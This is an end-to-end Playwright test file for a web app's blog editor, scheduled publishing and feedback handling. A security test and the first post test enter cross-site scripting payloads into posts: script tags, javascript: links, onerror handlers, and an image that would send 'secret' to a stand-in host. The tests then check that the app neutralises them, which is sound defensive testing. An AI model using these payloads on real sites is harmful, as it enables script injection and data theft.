"""Writing, publishing, and reading a post; sending feedback, and handling it."""

from __future__ import annotations

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, expect

from e2e.application import Application
from e2e.conftest import PASSWORD, NewContext, sign_in
from e2e.pages.ready import ready
from fundwright.accounts.schemas import Role

EMAIL = "editor@example.org"


@pytest.fixture(scope="module")
def author(application: Application) -> str:
    application.add_person(EMAIL, PASSWORD, name="Grace Example", role=Role.ADMIN)
    return EMAIL


@pytest.fixture
def desk(author: str, page: Page) -> Page:
    """The author's page, not opened yet."""
    sign_in(page, author)
    return page


@pytest.fixture
def reader(new_context: NewContext) -> Page:
    """The page of a person without an account, on a phone in another time zone."""
    return new_context(viewport={"width": 360, "height": 780}, timezone_id="Asia/Tokyo").new_page()


def write(desk: Page, title: str, text: str, *, at: str = "") -> None:
    desk.goto("/dashboard/blog/new-post")
    ready(desk)
    desk.get_by_label("Title").fill(title)
    desk.get_by_label("Text", exact=True).fill(text)
    desk.get_by_label("Publish at").fill(at)
    desk.get_by_role("button", name="Publish").click()
    desk.wait_for_url("**/edit")
    ready(desk)


def expect_accessible(page: Page) -> None:
    """axe reports nothing, and nothing is wider than the page."""
    assert [violation["id"] for violation in Axe().run(page).response["violations"]] == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


class TestAPost:
    def test_is_seen_while_it_is_written_then_read_by_everyone(self, desk: Page, reader: Page) -> None:
        desk.goto("/dashboard/blog/new-post")
        ready(desk)
        expect(desk).to_have_title("New post")
        desk.get_by_label("Title").fill("A harbor at dawn")
        desk.get_by_label("Summary").fill("Boats, mostly")
        desk.get_by_label("Text", exact=True).press_sequentially("## Boats\n\n![x](http://evil.example/?q=1) <img src=x>")
        preview = desk.get_by_role("region", name="Preview")
        expect(preview.get_by_role("heading", name="Boats")).to_be_visible()
        expect(preview.locator("img")).to_have_count(0)
        expect_accessible(desk)
        desk.get_by_role("button", name="Publish").click()
        desk.wait_for_url("**/edit")
        ready(desk)
        expect(desk.get_by_label("Title")).to_have_value("A harbor at dawn")

        reader.goto("/blog")
        ready(reader)
        reader.get_by_role("link", name="A harbor at dawn").click()
        reader.wait_for_url("**/blog/a-harbor-at-dawn")
        expect(reader).to_have_title("A harbor at dawn")
        expect(reader.get_by_role("heading", name="Boats")).to_be_visible()
        assert "<title>A harbor at dawn</title>" in reader.request.get("/blog/rss.xml").text()

    @pytest.mark.slow
    def test_for_later_appears_at_the_time_of_its_authors_clock(self, author: str, new_context: NewContext, reader: Page) -> None:
        desk = new_context(timezone_id="America/New_York").new_page()
        sign_in(desk, author)
        write(desk, "In the summer of 2090", "x", at="2090-07-01T10:30")
        expect(desk.get_by_text("Jul 1, 2090, 10:30 AM")).to_be_visible()
        (post,) = desk.request.get("/api/blog/posts?text=2090").json()["items"]
        assert post["published_at"] == "2090-07-01T14:30:00Z"
        assert reader.request.get("/blog/in-the-summer-of-2090").status == 404
        desk.get_by_role("button", name="Publish", exact=True).click()
        expect(desk.get_by_role("link", name="View post")).to_be_visible()
        assert reader.request.get("/blog/in-the-summer-of-2090").ok

    @pytest.mark.security(39)
    def test_shows_what_could_act_as_text(self, desk: Page, reader: Page) -> None:
        links = ("javascript:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example", "/blog", "https://example.org")
        write(
            desk,
            "Harmless",
            "\n\n".join(
                (
                    "**Shown**",
                    *(f"[link]({link})" for link in links),
                    "[reference]\n\n[reference]: javascript:alert(2)",
                    "![pixel](http://evil.example/?q=secret)",
                    '<img src="http://evil.example/" onerror="alert(3)"> <b onclick="alert(4)">HTML</b>',
                    "<script>alert(5)</script>",
                    '<iframe src="http://evil.example/"></iframe>',
                )
            ),
        )
        asked = list[str]()
        reader.on("request", lambda request: asked.append(request.url))
        reader.goto("/blog/harmless")
        ready(reader)
        text = reader.locator(".fw-markdown")
        expect(text.get_by_text("Shown")).to_have_css("font-weight", "600")
        expect(text.locator("img, script, iframe, b")).to_have_count(0)
        shown = [link.get_attribute("href") for link in text.get_by_role("link").all()]
        assert shown == [*links[-2:], "http://evil.example/?q=secret"]  # an image is a link to it
        assert [url for url in asked if "evil.example" in url] == []

    @pytest.mark.parametrize("width", [360, pytest.param(1440, marks=pytest.mark.slow)])
    @pytest.mark.slow
    def test_is_found_in_the_list_and_deleted_after_a_question(self, desk: Page, width: int) -> None:
        write(desk, f"Short-lived {width}", "x")
        desk.set_viewport_size({"width": width, "height": 800})
        desk.goto("/dashboard/blog/list")
        ready(desk)
        desk.get_by_role("searchbox", name="Search").fill(f"lived {width}")
        desk.get_by_role("searchbox", name="Search").press("Enter")
        expect(desk.get_by_text("1 post", exact=True)).to_be_visible()
        with desk.expect_download() as download:
            desk.get_by_role("link", name="Export as CSV").click()
        assert download.value.suggested_filename == "posts.csv"
        desk.get_by_text(f"Short-lived {width}").click()
        opened = desk.get_by_role("article", name=f"Short-lived {width}")
        expect(opened).to_be_visible()
        expect_accessible(desk)
        opened.get_by_role("button", name="Delete").click()
        desk.get_by_role("dialog").get_by_role("button", name="Delete").click()
        expect(desk.get_by_role("main").get_by_text("Deleted", exact=True).first).to_be_visible()


class TestFeedback:
    @pytest.mark.slow
    def test_goes_from_anyone_signed_in_to_the_team(self, recognized: Page, author: str, new_context: NewContext) -> None:
        sender = recognized
        sender.goto("/feedback?page=/dashboard/sam")
        ready(sender)
        expect(sender).to_have_title("Feedback")
        sender.get_by_label("What is it about?").select_option("Idea")
        sender.get_by_role("button", name="Send").click()
        expect(sender.get_by_text("Fill in this field.")).to_be_visible()
        expect_accessible(sender)
        sender.get_by_label("Your feedback").fill("A bell for deadlines")
        sender.get_by_role("button", name="Send").click()
        expect(sender.get_by_text("Thank you for your feedback.")).to_be_visible()
        expect(sender.get_by_label("Your feedback")).to_have_value("")

        team = new_context().new_page()
        sign_in(team, author)
        team.goto("/dashboard/feedback")
        ready(team)
        team.get_by_text("A bell for deadlines").click()
        opened = team.locator("[data-panel]")
        expect(opened.get_by_role("link", name="/dashboard/sam")).to_be_visible()
        opened.get_by_label("Status").select_option("Resolved")
        opened.get_by_label("Team note").fill("It rings now")
        expect_accessible(team)
        opened.get_by_role("button", name="Save").click()
        expect(opened).to_have_count(0)
        (entry,) = team.request.get("/api/feedback?state=closed").json()["items"]
        assert (entry["text"], entry["note"]) == ("A bell for deadlines", "It rings now")


def test_users_cannot_open_the_team_pages(recognized: Page) -> None:
    for path in ("/dashboard/blog/new-post", "/dashboard/blog/list", "/dashboard/feedback"):
        answer = recognized.request.get(path, max_redirects=0)
        assert (answer.status, answer.headers["location"]) == (302, "/404")
